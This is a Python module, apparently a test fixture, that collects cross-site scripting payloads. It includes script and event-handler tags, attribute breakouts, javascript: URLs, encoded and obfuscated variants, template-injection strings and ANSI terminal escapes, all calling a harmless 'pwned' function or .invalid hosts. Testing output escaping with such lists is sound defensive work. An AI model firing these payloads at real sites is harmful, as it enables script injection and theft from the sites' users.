"""Texts that become markup or scripts on a page that does not escape what it shows. Each calls, or is named, `pwned`."""

from __future__ import annotations

from itertools import product
from typing import Final

# What runs a script, or changes the page, where text is taken for markup.
_MARKUP: Final = (
    "<script>pwned()</script>",
    "<script src=//x.invalid/pwned.js></script>",
    "<ScRiPt>alert('pwned')</sCrIpT>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror=alert('pwned')>",
    "<IMG SRC=x ONERROR=pwned()>",
    "<img/src/onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<svg><a href=javascript:pwned()><text>pwned</text></a>",
    "<math href=javascript:pwned()>pwned",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<a href=javascript:pwned() id=pwned>pwned</a>",
    "<base href=//pwned.invalid/>",
    "<meta http-equiv=refresh content='0;url=//pwned.invalid'>",
    "<link rel=stylesheet href=//pwned.invalid>",
    "<style>@import'//pwned.invalid'</style>",
    "<style>*{background:url(//pwned.invalid)}</style>",
    "<form action=//pwned.invalid><button>pwned",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()>",
    "<audio src onerror=pwned()>",
    "<body onload=pwned()>",
    "<marquee onstart=pwned()>pwned",
    "<b class=pwned style=position:fixed>pwned</b>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<x-pwned onclick=pwned()>",
    "<dialog open class=pwned>pwned</dialog>",
)
# What ends the place where a text stands.
_EXITS: Final = ('">', "'>", "</title>", "</textarea>", "</pre>", "</script>", "-->", "]]>")
# What runs without a tag: in attributes, addresses, scripts, templates, terminals.
_OTHERS: Final = (
    '" onmouseover="pwned()',
    "' onmouseover='pwned()",
    "` onmouseover=pwned() `",
    '" autofocus onfocus=pwned() x="',
    '" style="position:fixed;inset:0" id="pwned',
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    " javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "//pwned.invalid/",
    "'-pwned()-'",
    '"-pwned()-"',
    "';pwned();//",
    '";pwned();//',
    "\\';pwned();//",
    "${pwned()}",
    "`;pwned();`",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&#x3c;img src=x onerror=pwned()&#x3e;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "{% include 'pwned' %}",
    "{# pwned #}",
    "<%= pwned() %>",
    "<?php pwned() ?>",
    "<!--#exec cmd=pwned-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<<script>pwned();//<</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "__proto__",
    "constructor.constructor('pwned()')()",
    "[pwned](javascript:pwned())",
    "![pwned](//pwned.invalid/x.png)",
    "\u202e<script>pwned()</script>",
    "\u2028pwned()\u2029",
    "<a href='//pwned.invalid' ping=//pwned.invalid>",
)
PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            *_MARKUP,
            *_OTHERS,
            *(
                exit_ + markup
                for exit_, markup in product(_EXITS, (*_MARKUP[:8], *_MARKUP[15:17], *_MARKUP[22:28]))
            ),
        ]
    )
)
PRINTABLE: Final = tuple(payload for payload in PAYLOADS if payload.isprintable())
# What a terminal would act upon: colours, an address behind a text, a title, a cursor that moves, half a sequence.
ANSI: Final = (
    "\x1b[1;31m<img src=x onerror=pwned()>\x1b[0m",
    "\x1b]8;;javascript:pwned()\x07pwned\x1b]8;;\x07",
    "\x1b]0;</title><script>pwned()</script>\x07",
    '\x1b[38;2;1;2;3;"onmouseover="pwned()m',
    "\x1b[2J\x1b[H<script>pwned()</script>",
    "\x1b[<script>pwned()</script>m",
    "\x1b",
)


def pack(payloads: tuple[str, ...], length: int) -> list[str]:
    """Return all payloads that fit into texts of a length, as few texts as they need."""
    texts = [""]
    for payload in payloads:
        if len(payload) > length:
            continue
        if len(texts[-1]) + len(payload) > length:
            texts.append("")
        texts[-1] += payload
    return texts
